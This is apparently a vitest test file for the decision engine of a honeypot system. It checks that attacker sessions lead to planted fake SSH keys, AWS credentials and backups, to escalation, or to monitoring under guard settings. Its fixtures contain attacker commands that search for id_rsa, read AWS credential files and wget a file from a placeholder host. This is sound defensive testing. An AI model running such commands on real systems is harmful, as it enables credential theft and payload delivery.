import { readFileSync } from 'node:fs';
import type { Policy } from '@cerberusmesh/contract/policy';
import { describe, expect, it } from 'vitest';
import { decide, type Guards, type Situation } from './decide.ts';
import { readPolicy } from './read-policy.ts';

const policyFile = new URL('../../../policy/decisions/default.json', import.meta.url);
const policy: Policy = readPolicy(readFileSync(policyFile, 'utf8'), 'default.json');
const now = new Date('2026-11-22T12:00:00Z');

describe('decide with the default policy', () => {
  it('plants credentials and changes the banner on a grave session', () => {
    expect(decide(aSituation(), policy, someGuards(), now)[0]).toMatchObject({
      decision: 'insert_trap',
      rule: 'grave-session',
      adaptations: ['AWS_CREDENTIALS', 'BANNER_CHANGE'],
    });
  });

  it.each([
    { command: 'find / -name id_rsa', adaptation: 'SSH_KEYS' },
    { command: 'mysql -uroot -e "show databases"', adaptation: 'DATABASE_CONFIG' },
    { command: 'cat /root/.AWS/credentials', adaptation: 'AWS_CREDENTIALS' },
    { command: 'ls /var/backups', adaptation: 'BACKUP_SCRIPT' },
  ])('plants what the visitor looks for ($command)', ({ command, adaptation }) => {
    const situation = aSituation({ session: { recentCommands: [command] } });
    expect(decide(situation, policy, someGuards(), now)[0]?.adaptations).toContain(adaptation);
  });

  it('escalates beside the trap above a threat score of 0.9', () => {
    const decisions = decide(aSituation({ session: { threatScore: 0.95 } }), policy, someGuards(), now);
    expect(decisions.map((decision) => decision.decision)).toEqual(['insert_trap', 'escalate']);
  });

  it('watches a session of medium severity, and says nothing about one of low', () => {
    const kinds = (severity: 'LOW' | 'MEDIUM') =>
      decide(aSituation({ session: { severity } }), policy, someGuards(), now).map((decision) => decision.decision);
    expect(kinds('MEDIUM')).toEqual(['monitor']);
    expect(kinds('LOW')).toEqual([]);
  });

  it.each([
    { guards: { autoAdaptation: false }, says: 'ENABLE_AUTO_ADAPTATION' },
    { guards: { autoAction: false }, says: 'CERBERUS_AUTO_ACTION' },
    { guards: { threatScoreMin: 0.99 }, says: 'HIGH_SEVERITY_THRESHOLD' },
    { guards: { confidenceMin: 0.99 }, says: 'CERBERUS_THRESHOLD' },
    { guards: { lastAdaptedAt: new Date(now.getTime() - 299_000) }, says: 'rests until 2026-11-22T12:00:01' },
    { guards: { eventAgeMaxSeconds: 5 }, says: 'history' },
    { guards: { isRecording: true }, says: 'a recording' },
  ])('does nothing and says why ($says)', ({ guards, says }) => {
    const [decision] = decide(aSituation(), policy, someGuards(guards), now);
    expect(decision).toMatchObject({ decision: 'monitor', adaptations: [], rule: 'grave-session' });
    expect(decision?.why).toContain(says);
  });

  it('adapts again when the cooldown is over', () => {
    const guards = someGuards({ lastAdaptedAt: new Date(now.getTime() - 300_000) });
    expect(decide(aSituation(), policy, guards, now)[0]?.decision).toBe('insert_trap');
  });

  it('takes a parent technique for its sub-techniques, and not for its namesakes', () => {
    const rule = {
      id: 'r',
      why: 'w',
      when: { techniquesAny: ['T1552'] },
      decision: 'monitor' as const,
      adaptations: [],
    };
    const count = (id: string) =>
      decide(aSituation({ session: { techniques: [id] } }), { version: '1', rules: [rule] }, someGuards(), now).length;
    expect([count('T1552'), count('T1552.001'), count('T1553')]).toEqual([1, 1, 0]);
  });
});

describe('readPolicy', () => {
  it.each([
    { text: '{', says: 'no JSON' },
    { text: '{"version":"1","rules":[{"id":"a","why":"","when":{"typo":1},"decision":"monitor"}]}', says: 'typo' },
    {
      text: JSON.stringify({ version: '1', rules: [policy.rules[0], policy.rules[0]] }),
      says: 'two rules have one id',
    },
  ])('refuses a policy with faults and names them ($says)', ({ text, says }) => {
    expect(() => readPolicy(text, 'p.json')).toThrow(says);
  });
});

function someGuards(changes: Partial<Guards> = {}): Guards {
  return {
    autoAdaptation: true,
    autoAction: true,
    threatScoreMin: 0.7,
    confidenceMin: 0.7,
    cooldownSeconds: 300,
    eventAgeMaxSeconds: 900,
    isRecording: false,
    ...changes,
  };
}

function aSituation({ session = {} }: { session?: Partial<Situation['session']> } = {}): Situation {
  return {
    sensor: 'sensor-a',
    sessionId: 's1',
    sourceIp: '192.0.2.1',
    eventId: '00000000-0000-7000-8000-000000000000',
    eventEpochMs: now.getTime() - 10_000,
    assessment: {
      severity: 'HIGH',
      threatScore: 0.85,
      anomalyScore: 0.5,
      attackType: 'malware_download',
      confidence: 0.9,
      why: 'because',
      techniques: [],
      partial: false,
      modelVersion: 'm1',
    },
    session: {
      events: 5,
      commands: 1,
      failedLogins: 0,
      succeededLogin: true,
      transfers: 0,
      tunnels: 0,
      firstEpochMs: now.getTime() - 20_000,
      lastEpochMs: now.getTime() - 10_000,
      severity: 'HIGH',
      threatScore: 0.85,
      techniques: [],
      recentCommands: ['wget http://192.0.2.9/x'],
      probe: false,
      ...session,
    },
  };
}
